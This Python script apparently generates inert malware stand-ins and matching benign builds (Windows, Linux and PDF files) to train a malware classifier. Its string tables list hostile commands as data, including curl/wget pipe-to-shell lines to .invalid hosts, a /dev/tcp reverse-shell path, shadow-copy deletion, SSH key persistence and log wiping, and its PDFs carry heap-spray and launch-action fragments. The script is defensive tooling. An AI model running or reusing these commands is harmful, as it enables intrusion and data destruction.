#!/usr/bin/env python3
"""Generates the training corpus's harmless stand-ins for malware, and benign
builds made the same way so that the build toolchain itself tells nothing.

No file written here does anything harmful when run:
  * Windows and Linux programs only *reference* the API functions typical of
    injectors, downloaders, key loggers and file encryptors (their addresses go
    into a table that is never called through); main() returns at once;
  * the "packed" or "encrypted" sections are random bytes or XOR-scrambled
    text that no code ever reads or executes;
  * the PDF documents carry inert JavaScript (alerts and string juggling), a
    launch action naming a program that is never started by any viewer
    without the user's consent, and links to the reserved .invalid domain.

Usage: make_standins.py OUT_DIR [--seed N] [--pe-bases N] [--elf-bases N] [--pdfs N] [--jobs N]
Writes OUT_DIR/{malicious,benign}/{win32,win64,elf,pdf}/<group>/<file>; the
group folder holds every variant of one compiled base, so a held-out split by
group never sees a sibling of its files in training.
"""
import argparse
import concurrent.futures
import os
import random
import shutil
import subprocess
import sys
import tempfile
import zlib

MARK = b"KAVBLOBMARK0123456789"

# Windows API sets of the behaviours the stand-ins imitate (only referenced).
PE_BAD_APIS = {
    "inject": ["VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread", "OpenProcess", "VirtualProtectEx",
               "ReadProcessMemory", "GetThreadContext", "SetThreadContext", "ResumeThread", "QueueUserAPC"],
    "hook": ["SetWindowsHookExA", "GetAsyncKeyState", "GetForegroundWindow", "GetWindowTextA", "CallNextHookEx",
             "GetKeyState", "MapVirtualKeyA"],
    "persist": ["RegCreateKeyExA", "RegSetValueExA", "CopyFileA", "GetModuleFileNameA", "CreateServiceA",
                "OpenSCManagerA", "StartServiceA"],
    "crypto": ["CryptAcquireContextA", "CryptGenKey", "CryptEncrypt", "CryptDestroyKey", "FindFirstFileA",
               "FindNextFileA", "MoveFileExA", "DeleteFileA"],
    "evade": ["IsDebuggerPresent", "CheckRemoteDebuggerPresent", "GetTickCount", "Sleep", "CreateToolhelp32Snapshot",
              "Process32First", "Process32Next", "TerminateProcess"],
    "download": ["InternetOpenA", "InternetOpenUrlA", "InternetReadFile", "URLDownloadToFileA", "WinExec",
                 "ShellExecuteA"],
}
PE_BAD_LIBS = {"hook": [], "persist": ["-ladvapi32"], "crypto": ["-ladvapi32"], "download": ["-lwininet", "-lurlmon", "-lshell32"],
               "inject": [], "evade": []}
PE_HEADERS = "#include <windows.h>\n#include <tlhelp32.h>\n#include <wincrypt.h>\n#include <wininet.h>\n#include <urlmon.h>\n#include <shellapi.h>\n"

PE_BAD_STRINGS = [
    "cmd.exe /c start /b %s", "powershell -nop -w hidden -enc %s", "Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run",
    "vssadmin delete shadows /all /quiet", "http://update.example.invalid/gate.php?id=%s", "Your files have been encrypted",
    "bcdedit /set {default} recoveryenabled no", "SeDebugPrivilege", "\\\\\\\\.\\\\PhysicalDrive0", "schtasks /create /sc minute /tn %s",
    "User-Agent: Mozilla/4.0 (compatible; MSIE 6.0)", "POST /panel/upload HTTP/1.1", "keylog_%04d.txt", "explorer.exe",
    "svchost.exe", "taskmgr.exe", "wallet.dat", "Login Data", "cookies.sqlite", "HKEY_CURRENT_USER\\\\Software\\\\Classes",
    "netsh advfirewall set allprofiles state off", "attrib +h +s %s", "README_DECRYPT.txt", "bitcoin:1BoatSLRHtKNngkdXEeobR76b53LETtpyT",
]
BENIGN_APIS = ["CreateFileA", "ReadFile", "WriteFile", "CloseHandle", "GetSystemTime", "GetLocalTime", "MessageBoxA",
               "GetCommandLineA", "GetEnvironmentVariableA", "SetConsoleTitleA", "GetFileSize", "FindFirstFileA",
               "FindClose", "GetCurrentDirectoryA", "GetTempPathA", "MultiByteToWideChar", "WideCharToMultiByte",
               "LoadLibraryA", "GetProcAddress", "FreeLibrary", "GetVersionExA", "QueryPerformanceCounter",
               "CreateWindowExA", "RegisterClassA", "DefWindowProcA", "GetMessageA", "DispatchMessageA",
               "RegOpenKeyExA", "RegQueryValueExA", "RegCloseKey", "CreateThread", "WaitForSingleObject",
               "HeapAlloc", "HeapFree", "GetProcessHeap", "CreateMutexA", "GetLastError", "FormatMessageA",
               "SetFilePointer", "GetFileAttributesA", "CreateDirectoryA", "InternetOpenA", "InternetCloseHandle"]
BENIGN_LIBS = ["-luser32", "-ladvapi32", "-lwininet"]
BENIGN_STRINGS = [
    "Usage: %s [options] FILE", "Copyright (C) %d Example Tools Project", "Settings saved to %s",
    "https://www.example.org/docs/manual.html", "Could not open configuration file", "Processing %d of %d items",
    "version %d.%d.%d", "Report a bug: bugs@example.org", "Software\\\\ExampleTools\\\\Preferences", "Ready.",
    "Installing components", "Checking for updates", "The operation completed successfully", "About this program",
    "Help", "File", "Edit", "View", "Window", "Open recent", "Export as CSV", "Print preview", "Page %d",
]
ELF_BAD_FUNCS = ["ptrace", "mprotect", "execve", "socket", "connect", "dlopen", "dlsym", "fork", "setsid", "kill",
                 "unlink", "chmod", "prctl", "mmap", "dup2", "inet_addr", "gethostbyname", "system", "popen"]
ELF_BAD_STRINGS = [
    "/proc/self/exe", "/tmp/.%s", "/etc/crontab", "* * * * * root %s", "curl -s http://%s.example.invalid/x | sh",
    "LD_PRELOAD=%s", "/dev/tcp/10.0.0.1/4444", "/etc/ld.so.preload", "/bin/sh -c %s", "chattr +i %s",
    "echo %s >> ~/.ssh/authorized_keys", "iptables -F", "history -c", "stratum+tcp://pool.example.invalid:3333",
    "xmrig", "kill -9 %d", "/var/log/wtmp", "wget -q -O- http://%s.example.invalid/b", "pkill -f %s",
    "/sys/class/net/eth0/address", "rm -rf /var/log/*", "nohup %s &", "/etc/shadow", "HISTFILE=/dev/null",
]
ELF_BENIGN_FUNCS = ["fopen", "fread", "fwrite", "fclose", "printf", "snprintf", "strtol", "qsort", "malloc", "free",
                    "getenv", "time", "localtime", "strftime", "opendir", "readdir", "closedir", "stat", "getopt",
                    "setlocale", "isatty", "strerror", "memcpy", "strlen", "realloc", "atexit"]
ELF_BENIGN_STRINGS = [
    "Usage: %s [OPTION]... [FILE]...", "Try '%s --help' for more information.", "%s: cannot open '%s'",
    "/usr/share/%s/defaults.conf", "/etc/%s.conf", "Report bugs to <bugs@example.org>.", "version %d.%d",
    "License GPLv3+: GNU GPL version 3 or later", "%s: invalid option -- '%c'", "Written by %s.",
    "--verbose", "--output=FILE", "Reading %s", "Done.", "warning: %s", "error: %s", "%5d %s",
]


def rand_token(rng, n=8):
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(n))


def c_string(s):
    return '"' + s.replace('"', '\\"') + '"'


def blob_decl(section, size):
    # The blob starts with a marker so variants can be patched in place.
    init = ", ".join(str(b) for b in MARK + size.to_bytes(4, "little"))
    attr = f'__attribute__((section("{section}"), used)) ' if section else "__attribute__((used)) "
    return f"{attr}static const unsigned char blob[{size}] = {{{init}}};\n"


def pe_source(rng, bad):
    lines = [PE_HEADERS, "#include <stdio.h>\n"]
    if bad:
        sets = rng.sample(sorted(PE_BAD_APIS), rng.randint(1, 3))
        apis = [a for s in sets for a in PE_BAD_APIS[s]]
        strings = rng.sample(PE_BAD_STRINGS, rng.randint(3, 9))
        libs = sorted({l for s in sets for l in PE_BAD_LIBS[s]})
        apis += rng.sample(BENIGN_APIS[:20], rng.randint(0, 5))
    else:
        apis = rng.sample(BENIGN_APIS, rng.randint(4, 18))
        strings = rng.sample(BENIGN_STRINGS, rng.randint(3, 12))
        libs = BENIGN_LIBS
    lines.append("static void* volatile api_table[] = {" + ", ".join(f"(void*)&{a}" for a in apis) + "};\n")
    lines.append("static const char* volatile text_table[] = {" + ", ".join(c_string(s) for s in strings) + "};\n")
    for i in range(rng.randint(0, 4)):
        lines.append(f'static const char* volatile extra_{i} = "{rand_token(rng, rng.randint(6, 30))}";\n')
    return "".join(lines), libs


def pe_main(dll):
    body = "  return argc == 0x7fff1234 ? (int)(size_t)api_table[0] + text_table[0][0] + blob[0] : 0;\n"
    if dll:
        return ("BOOL WINAPI DllMain(HINSTANCE h, DWORD r, LPVOID p) { (void)h; (void)r; (void)p; return TRUE; }\n"
                "__declspec(dllexport) int entry_point(int argc) {\n" + body + "}\n")
    return "int main(int argc, char** argv) {\n  (void)argv;\n" + body + "}\n"


def elf_source(rng, bad):
    lines = ["#include <stdio.h>\n#include <stdlib.h>\n#include <string.h>\n#include <time.h>\n#include <dirent.h>\n",
             "#include <locale.h>\n#include <unistd.h>\n#include <getopt.h>\n#include <sys/stat.h>\n"]
    if bad:
        lines.append("#include <sys/ptrace.h>\n#include <sys/mman.h>\n#include <sys/socket.h>\n#include <dlfcn.h>\n"
                     "#include <signal.h>\n#include <sys/prctl.h>\n#include <arpa/inet.h>\n#include <netdb.h>\n")
        funcs = rng.sample(ELF_BAD_FUNCS, rng.randint(4, 12)) + rng.sample(ELF_BENIGN_FUNCS, rng.randint(0, 5))
        strings = rng.sample(ELF_BAD_STRINGS, rng.randint(3, 9))
    else:
        funcs = rng.sample(ELF_BENIGN_FUNCS, rng.randint(4, 16))
        strings = rng.sample(ELF_BENIGN_STRINGS, rng.randint(3, 12))
    lines.append("static void* volatile api_table[] = {" + ", ".join(f"(void*)&{f}" for f in funcs) + "};\n")
    lines.append("static const char* volatile text_table[] = {" + ", ".join(c_string(s) for s in strings) + "};\n")
    for i in range(rng.randint(0, 4)):
        lines.append(f'static const char* volatile extra_{i} = "{rand_token(rng, rng.randint(6, 30))}";\n')
    return "".join(lines), (["-ldl"] if bad else [])


def compile_one(job):
    """Compiles one base; returns (job, path or None, error text)."""
    src, out, cmd = job["src"], job["out"], job["cmd"]
    with open(src, "w") as f:
        f.write(job["code"])
    r = subprocess.run(cmd + [src, "-o", out] + job["libs"], capture_output=True, text=True)
    if r.returncode != 0:
        return job, None, r.stderr[-2000:]
    return job, out, ""


def fill_blob(rng, data, bad):
    """Replaces the marked blob: random or scrambled bytes for stand-ins,
    readable or zlib-compressed text for benign builds."""
    i = data.find(MARK)
    if i < 0:
        return data
    j = i
    # The marker is followed by the blob's length.
    size = min(int.from_bytes(data[i + len(MARK):i + len(MARK) + 4], "little"), len(data) - j)
    if bad:
        mode = rng.choice(["random", "xor", "random"])
        if mode == "random":
            fill = os.urandom(size)
        else:
            key = os.urandom(rng.randint(4, 32))
            text = (" ".join(rng.sample(PE_BAD_STRINGS + ELF_BAD_STRINGS, 8)) * (size // 64 + 1)).encode()[:size]
            fill = bytes(b ^ key[k % len(key)] for k, b in enumerate(text))
    else:
        mode = rng.choice(["text", "zlib", "table"])
        words = BENIGN_STRINGS + ELF_BENIGN_STRINGS
        if mode == "text":
            fill = (" ".join(rng.choice(words) for _ in range(size // 8 + 1))).encode()[:size]
        elif mode == "zlib":
            # Compressed resources are as dense as encrypted ones: benign too.
            raw = (" ".join(rng.choice(words) + " " + str(rng.random()) for _ in range(size // 4 + 1))).encode()
            fill = zlib.compress(raw, 9)[:size]
            fill += bytes(size - len(fill))
        else:
            fill = bytes((k * 7 + k // 256) & 0xFF for k in range(size))
    return data[:j] + fill[:size] + data[j + size:]


def write_variants(rng, base_path, out_dir, bad, count, ext):
    with open(base_path, "rb") as f:
        base = f.read()
    os.makedirs(out_dir, exist_ok=True)
    for v in range(count):
        data = fill_blob(rng, base, bad)
        if rng.random() < (0.4 if bad else 0.15):
            # An overlay: appended data after the image (installers and
            # self-extractors carry one; so do droppers).
            n = rng.randint(512, 96 * 1024)
            data += os.urandom(n) if bad or rng.random() < 0.5 else bytes(rng.randint(0, 255) for _ in range(16)) * (n // 16)
        with open(os.path.join(out_dir, f"v{v}{ext}"), "wb") as f:
            f.write(data)


def pe_jobs(rng, tmp, bases):
    jobs = []
    for arch, cc in (("win32", "i686-w64-mingw32-gcc"), ("win64", "x86_64-w64-mingw32-gcc")):
        for bad in (True, False):
            for b in range(bases):
                code, libs = pe_source(rng, bad)
                dll = rng.random() < 0.2
                section = rng.choice([".enc", ".upx1", "." + rand_token(rng, 4), ".data", "", ".rsrc2"]) if bad else rng.choice(["", "", ".rdata", ".res"])
                size = rng.choice([2048, 8192, 32768, 131072]) if bad else rng.choice([1024, 4096, 16384, 65536])
                code = code + blob_decl(section, size) + pe_main(dll)
                flags = [rng.choice(["-O0", "-O1", "-O2", "-Os"])]
                if rng.random() < 0.6:
                    flags.append("-s")
                if rng.random() < 0.3:
                    flags.append("-mwindows")
                if dll:
                    flags.append("-shared")
                if rng.random() < 0.3:
                    flags.append("-static")
                ext = ".dll" if dll else ".exe"
                name = f"{'m' if bad else 'b'}{arch}_{b:03d}"
                jobs.append({"kind": arch, "bad": bad, "name": name, "ext": ext, "code": code, "libs": libs,
                             "src": os.path.join(tmp, name + ".c"), "out": os.path.join(tmp, name + ext),
                             "cmd": [cc, "-w"] + flags})
    return jobs


def elf_jobs(rng, tmp, bases):
    jobs = []
    for bad in (True, False):
        for b in range(bases):
            code, libs = elf_source(rng, bad)
            section = rng.choice([".enc", ".packed", "." + rand_token(rng, 4), ""]) if bad else rng.choice(["", ".rodata.tables"])
            size = rng.choice([2048, 8192, 32768, 131072]) if bad else rng.choice([1024, 4096, 16384, 65536])
            code += blob_decl(section, size)
            code += "int main(int argc, char** argv) {\n  (void)argv;\n  return argc == 0x7fff1234 ? (int)(size_t)api_table[0] + text_table[0][0] + blob[0] : 0;\n}\n"
            flags = [rng.choice(["-O0", "-O1", "-O2", "-Os"])]
            if rng.random() < 0.6:
                flags.append("-s")
            if bad and rng.random() < 0.3:
                flags.append("-static")
            if rng.random() < 0.2:
                flags += ["-fPIC", "-shared"]
            name = f"{'m' if bad else 'b'}elf_{b:03d}"
            jobs.append({"kind": "elf", "bad": bad, "name": name, "ext": "", "code": code, "libs": libs,
                         "src": os.path.join(tmp, name + ".c"), "out": os.path.join(tmp, name),
                         "cmd": ["gcc", "-w"] + flags})
    return jobs


def pdf_bytes(objects):
    """A well-formed PDF of the given object bodies (1-based), with xref."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{i} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for o in offsets:
        out += f"{o:010d} 00000 n \n".encode()
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def stream(data, flate):
    if flate:
        data = zlib.compress(data)
        return f"<< /Length {len(data)} /Filter /FlateDecode >>\nstream\n".encode() + data + b"\nendstream"
    return f"<< /Length {len(data)} >>\nstream\n".encode() + data + b"\nendstream"


def make_pdf(rng, bad):
    words = BENIGN_STRINGS + ELF_BENIGN_STRINGS
    pages = rng.randint(1, 6)
    text = b""
    for _ in range(rng.randint(5, 60)):
        text += f"BT /F1 {rng.randint(8, 14)} Tf {rng.randint(40, 400)} {rng.randint(40, 760)} Td ({rng.choice(words).replace('%', '')}) Tj ET\n".encode()
    objs = [None, None]  # catalog, pages
    font = len(objs) + 1
    objs.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    kids = []
    extra_catalog = b""
    annots = []
    if bad:
        js_bits = [
            "var s = unescape('%u9090%u9090'); while (s.length < 0x100) s += s;",
            "app.alert('" + rand_token(rng, 12) + "');",
            "var c = this.getField('" + rand_token(rng) + "'); var p = eval('String.fromCharCode(' + [104,105].join(',') + ')');",
            "util.printf('%45000f', 0);", "this.exportDataObject({ cName: '" + rand_token(rng) + ".exe', nLaunch: 2 });",
            "var k = '" + os.urandom(24).hex() + "'; var d = ''; for (var i = 0; i < k.length; i += 2) d += String.fromCharCode(parseInt(k.substr(i, 2), 16));",
        ]
        js = " ".join(rng.sample(js_bits, rng.randint(2, 5))).encode()
        jsobj = len(objs) + 1
        objs.append(stream(js, rng.random() < 0.5))
        action = len(objs) + 1
        objs.append(f"<< /Type /Action /S /JavaScript /JS {jsobj} 0 R >>".encode())
        extra_catalog += f" /OpenAction {action} 0 R".encode()
        if rng.random() < 0.5:
            launch = len(objs) + 1
            objs.append(b"<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c start " + rand_token(rng).encode() + b".exe) >> >>")
            extra_catalog += f" /AA << /WC {launch} 0 R >>".encode()
        if rng.random() < 0.6:
            emb = len(objs) + 1
            objs.append(stream(os.urandom(rng.randint(2048, 65536)), True).replace(b"<< /Length", b"<< /Type /EmbeddedFile /Length", 1))
            spec = len(objs) + 1
            objs.append(f"<< /Type /Filespec /F ({rand_token(rng)}.exe) /EF << /F {emb} 0 R >> >>".encode())
            extra_catalog += f" /Names << /EmbeddedFiles << /Names [({rand_token(rng)}) {spec} 0 R] >> >>".encode()
        if rng.random() < 0.5:
            annots.append(f"<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /URI /URI (http://{rand_token(rng)}.example.invalid/{rand_token(rng)}.php) >> >>")
        for _ in range(rng.randint(0, 4)):
            objs.append(stream(os.urandom(rng.randint(256, 8192)), False))
    else:
        if rng.random() < 0.4:
            annots.append("<< /Type /Annot /Subtype /Link /Rect [40 40 200 60] /A << /S /URI /URI (https://www.example.org/manual) >> >>")
        if rng.random() < 0.3:
            info_js = len(objs) + 1
            # Benign forms also use JavaScript (field formatting).
            objs.append(b"<< /S /JavaScript /JS (AFNumber_Format\\(2, 0, 0, 0, \"\", true\\);) >>")
    for _ in range(pages):
        content = len(objs) + 1
        objs.append(stream(text, rng.random() < 0.7))
        page = len(objs) + 1
        annot = (" /Annots [" + " ".join(annots) + "]") if annots else ""
        objs.append(f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 {font} 0 R >> >> /Contents {content} 0 R{annot} >>".encode())
        kids.append(page)
    objs[0] = b"<< /Type /Catalog /Pages 2 0 R" + extra_catalog + b" >>"
    objs[1] = f"<< /Type /Pages /Kids [{' '.join(f'{k} 0 R' for k in kids)}] /Count {len(kids)} >>".encode()
    return pdf_bytes(objs)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("out")
    ap.add_argument("--seed", type=int, default=15)
    ap.add_argument("--pe-bases", type=int, default=60, help="compiled bases per architecture and class")
    ap.add_argument("--elf-bases", type=int, default=80, help="compiled bases per class")
    ap.add_argument("--variants", type=int, default=4)
    ap.add_argument("--pdfs", type=int, default=300, help="generated PDF documents per class")
    ap.add_argument("--jobs", type=int, default=2)
    a = ap.parse_args()
    rng = random.Random(a.seed)
    tmp = tempfile.mkdtemp(prefix="kav-standins-")
    try:
        jobs = pe_jobs(rng, tmp, a.pe_bases) + elf_jobs(rng, tmp, a.elf_bases)
        failed = 0
        with concurrent.futures.ThreadPoolExecutor(max_workers=a.jobs) as ex:
            for job, path, err in ex.map(compile_one, jobs):
                if path is None:
                    failed += 1
                    print(f"compile failed for {job['name']}: {err}", file=sys.stderr)
                    continue
                cls = "malicious" if job["bad"] else "benign"
                write_variants(rng, path, os.path.join(a.out, cls, job["kind"], job["name"]), job["bad"], a.variants, job["ext"])
        for bad in (True, False):
            cls = "malicious" if bad else "benign"
            for i in range(a.pdfs):
                d = os.path.join(a.out, cls, "pdf", f"{'m' if bad else 'b'}pdf_{i:03d}")
                os.makedirs(d, exist_ok=True)
                with open(os.path.join(d, "doc.pdf"), "wb") as f:
                    f.write(make_pdf(rng, bad))
        print(f"stand-ins written to {a.out} ({len(jobs) - failed} builds, {failed} failed)")
        return 1 if failed > len(jobs) // 10 else 0
    finally:
        shutil.rmtree(tmp, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
